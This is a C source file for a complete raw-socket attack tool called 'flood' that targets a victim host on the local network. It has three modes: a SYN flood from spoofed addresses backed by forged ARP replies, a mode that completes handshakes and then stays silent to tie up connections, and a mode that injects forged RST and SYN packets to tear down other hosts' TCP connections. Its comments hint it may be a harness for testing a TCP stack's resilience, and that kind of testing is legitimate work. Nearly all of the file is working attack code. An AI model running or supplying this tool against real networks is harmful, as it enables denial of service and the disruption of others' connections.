/*
 * A station that means no good, on a wire that it sees all of:
 *
 *     flood <interface> <address> <port> syn      opens connections without end and answers nothing
 *     flood <interface> <address> <port> silent   opens them, acknowledges, and says nothing more
 *     flood <interface> <address> <port> forge    resets and reopens the conversations of others
 *
 * The first two come from the upper half of a network of 256, and answer ARP for it. Each prints a
 * line for every thousand packets that it has sent, and goes on until it is told to end.
 */
#include <arpa/inet.h>
#include <err.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

enum {
    BATCH = 64, /* packets of a flood, and a millisecond of listening */
    IN_FLIGHT =
        256,        /* what a wire's queue holds beside what others send: losses are not the test */
    SOURCES = 100,  /* from .128 on */
    BEYOND = 50000, /* in the window, and not where it begins */
};

struct frame {
    struct ether_header ether;
    struct iphdr ip;
    struct tcphdr tcp;
} __attribute__((packed));

static int wire;
static uint8_t own_mac[6], victim_mac[6];
static in_addr_t victim; /* network order, as all addresses and ports here */
static uint16_t port;
static unsigned unanswered; /* SYNs of a flood */

/* ---- packets ---- */

static uint32_t sum(const void *bytes, size_t length, uint32_t start)
{
    const uint8_t *b = bytes;

    for (size_t i = 0; i < length; i += 2)
        start += (uint32_t)(b[i] << 8 | b[i + 1]);
    return start;
}

static uint16_t fold(uint32_t value)
{
    while (value >> 16)
        value = (value & 0xffff) + (value >> 16);
    return htons((uint16_t)~value);
}

static void send_segment(in_addr_t source, uint16_t source_port, uint32_t seq, uint32_t ack,
                         uint8_t flags)
{
    static unsigned long sent;
    struct frame frame = {
        .ether = {.ether_type = htons(ETHERTYPE_IP)},
        .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP},
        .tcp = {.source = source_port, .dest = port, .doff = 5, .window = htons(60000)},
    };

    memcpy(frame.ether.ether_dhost, victim_mac, 6);
    memcpy(frame.ether.ether_shost, own_mac, 6);
    frame.ip.tot_len = htons(sizeof(frame.ip) + sizeof(frame.tcp));
    frame.ip.saddr = source;
    frame.ip.daddr = victim;
    frame.ip.check = fold(sum(&frame.ip, sizeof(frame.ip), 0));
    frame.tcp.seq = htonl(seq);
    frame.tcp.ack_seq = htonl(ack);
    frame.tcp.th_flags = flags;
    frame.tcp.check = fold(sum(&frame.tcp, sizeof(frame.tcp),
                               sum(&frame.ip.saddr, 8, IPPROTO_TCP + sizeof(frame.tcp))));
    if (write(wire, &frame, sizeof(frame)) != sizeof(frame))
        return; /* the queue is full: the next one, then */
    if (++sent % 1000 == 0)
        printf("%lu sent\n", sent);
}

static bool is_ours(in_addr_t address)
{
    return (address ^ victim) != 0 && !((ntohl(address) ^ ntohl(victim)) >> 8) &&
           ntohl(address) & 0x80;
}

static void answer_arp(uint8_t *bytes)
{
    struct ether_header *ether = (void *)bytes;
    struct ether_arp *arp = (void *)(ether + 1);
    in_addr_t asked;

    memcpy(&asked, arp->arp_tpa, 4);
    if (arp->arp_op != htons(ARPOP_REQUEST) || !is_ours(asked))
        return;
    arp->arp_op = htons(ARPOP_REPLY);
    memcpy(arp->arp_tha, arp->arp_sha, 10); /* address and all */
    memcpy(arp->arp_sha, own_mac, 6);
    memcpy(arp->arp_spa, &asked, 4);
    memcpy(ether->ether_dhost, victim_mac, 6);
    memcpy(ether->ether_shost, own_mac, 6);
    if (write(wire, bytes, sizeof(*ether) + sizeof(*arp)) < 0)
        warn("ARP");
}

/* ---- kinds ---- */

static bool answers_flood(const struct frame *frame, bool leaves)
{
    return !leaves && is_ours(frame->ip.daddr) && frame->tcp.syn && frame->tcp.ack;
}

static void count(const struct frame *frame, bool leaves)
{
    if (answers_flood(frame, leaves) && unanswered)
        unanswered--;
}

/* The third step of the handshake. */
static void acknowledge(const struct frame *frame, bool leaves)
{
    count(frame, leaves);
    if (answers_flood(frame, leaves))
        send_segment(frame->ip.daddr, frame->tcp.dest, ntohl(frame->tcp.ack_seq),
                     ntohl(frame->tcp.seq) + 1, TH_ACK);
}

/* What would end the conversation if the victim believed it. */
static void forge(const struct frame *frame, bool leaves)
{
    uint32_t next = ntohl(frame->tcp.seq) + ntohs(frame->ip.tot_len) - frame->ip.ihl * 4u -
                    frame->tcp.doff * 4u;

    if (!leaves || frame->tcp.dest != port || frame->tcp.syn || frame->tcp.fin || frame->tcp.rst)
        return;
    send_segment(frame->ip.saddr, frame->tcp.source, next + BEYOND, 0, TH_RST);
    send_segment(frame->ip.saddr, frame->tcp.source, next + BEYOND, ntohl(frame->tcp.ack_seq),
                 TH_RST | TH_ACK);
    send_segment(frame->ip.saddr, frame->tcp.source, next - BEYOND, 0, TH_RST);
    send_segment(frame->ip.saddr, frame->tcp.source, next + BEYOND, 0, TH_SYN);
}

static const struct kind {
    const char *name;
    bool floods;
    void (*sees)(const struct frame *frame, bool leaves);
} kinds[] = {
    {"syn", true, count},
    {"silent", true, acknowledge},
    {"forge", false, forge},
};

static void open_connections(void)
{
    static uint32_t next;

    for (int i = 0; i < BATCH && unanswered < IN_FLIGHT; i++, next++, unanswered++) {
        in_addr_t source = htonl((ntohl(victim) & ~0xffu) | (128 + next % SOURCES));

        send_segment(source, htons((uint16_t)(1024 + next / SOURCES % 60000)), next * 2654435761u,
                     0, TH_SYN);
    }
}

/* Takes what is there, waiting a millisecond for the first: what is not answered then never is. */
static void listen_to_wire(const struct kind *kind)
{
    struct pollfd ready = {.fd = wire, .events = POLLIN};
    struct sockaddr_ll from;
    uint8_t bytes[2048];
    struct frame *frame = (void *)bytes;
    ssize_t length;

    if (poll(&ready, 1, 1) == 0)
        unanswered = 0;
    while (poll(&ready, 1, 0) == 1) {
        length = recvfrom(wire, bytes, sizeof(bytes), 0, (void *)&from, &(socklen_t){sizeof(from)});
        if (length >= (ssize_t)sizeof(struct ether_header) + (ssize_t)sizeof(struct ether_arp) &&
            frame->ether.ether_type == htons(ETHERTYPE_ARP))
            answer_arp(bytes);
        if (length >= (ssize_t)sizeof(*frame) && frame->ether.ether_type == htons(ETHERTYPE_IP) &&
            frame->ip.protocol == IPPROTO_TCP)
            kind->sees(frame, from.sll_pkttype == PACKET_OUTGOING);
    }
}

/* ---- start ---- */

/* The kernel knows it once it has sent something there. */
static void find_victim(const char *name)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = {victim}, .sin_port = htons(9)};
    struct arpreq request = {0};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    memcpy(&request.arp_pa, &to, sizeof(to));
    strncpy(request.arp_dev, name, sizeof(request.arp_dev) - 1);
    while (ioctl(fd, SIOCGARP, &request) || !(request.arp_flags & ATF_COM)) {
        if (sendto(fd, "", 1, 0, (void *)&to, sizeof(to)) < 0)
            err(1, "sendto");
        poll(NULL, 0, 10);
    }
    memcpy(victim_mac, request.arp_ha.sa_data, 6);
    close(fd);
}

static void open_wire(const char *name)
{
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
    struct ifreq request = {0};

    strncpy(request.ifr_name, name, sizeof(request.ifr_name) - 1);
    at.sll_ifindex = (int)if_nametoindex(name);
    wire = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (wire < 0 || bind(wire, (void *)&at, sizeof(at)) || ioctl(wire, SIOCGIFHWADDR, &request))
        err(1, "%s", name);
    memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
}

int main(int argc, char **argv)
{
    const struct kind *kind = kinds;
    const struct kind *end = kinds + sizeof(kinds) / sizeof(*kinds);

    if (argc != 5)
        errx(2, "usage: flood <interface> <address> <port> <kind>");
    while (kind < end && strcmp(kind->name, argv[4]))
        kind++;
    if (kind == end)
        errx(2, "%s: no such kind", argv[4]);
    setvbuf(stdout, NULL, _IOLBF, 0);
    victim = inet_addr(argv[2]);
    port = htons((uint16_t)atoi(argv[3]));
    find_victim(argv[1]);
    open_wire(argv[1]);
    puts("ready");
    for (;;) {
        if (kind->floods)
            open_connections();
        listen_to_wire(kind);
    }
}
